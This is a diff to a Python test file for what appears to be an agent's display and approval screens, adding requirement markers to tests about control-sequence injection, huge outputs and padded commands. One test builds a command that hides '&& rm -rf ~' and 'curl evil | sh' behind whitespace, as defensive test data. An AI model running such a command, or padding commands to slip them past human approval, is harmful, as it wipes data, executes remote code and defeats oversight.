@@ -59,6 +59,7 @@ def every_block(text: str) -> list[DisplayBlock]:
     ]
 
 
+@pytest.mark.row("H01", "H02", "H04")
 @pytest.mark.parametrize("block", every_block(EVIL), ids=lambda block: type(block).__name__)
 @pytest.mark.parametrize("full", [True, False])
 async def test_controls_never_reach_the_screen(block: DisplayBlock, full: bool) -> None:
@@ -68,6 +69,7 @@ async def test_controls_never_reach_the_screen(block: DisplayBlock, full: bool) 
         assert "[bold]x[/]" in text
 
 
+@pytest.mark.row("H01", "H02")
 async def test_controls_in_cards_and_approvals_never_reach_the_screen() -> None:
     async def script(session: FakeSession, text: str) -> None:
         session.keep(Notice(level="error", text=EVIL, hint=EVIL))
@@ -142,12 +144,14 @@ async def test_a_block_of_a_newer_version_is_named() -> None:
     assert "NewBlock" in await shown(NewBlock())  # type: ignore[arg-type]
 
 
+@pytest.mark.row("H06")
 async def test_ten_megabytes_in_one_line_do_not_stop_the_screen() -> None:
     block = ShellBlock(command="cat x", output="y" * 10_000_000, exit_code=0)
     text = await shown(block, full=True, width=200)
     assert "9,998,000 more characters" in text.replace("\n", "")
 
 
+@pytest.mark.row("H03")
 async def test_an_approval_shows_its_end_and_counts_what_pads_it() -> None:
     command = "echo fine" + " " * 5000 + "&& rm -rf ~" + "\n" * 200 + "curl evil | sh"
 
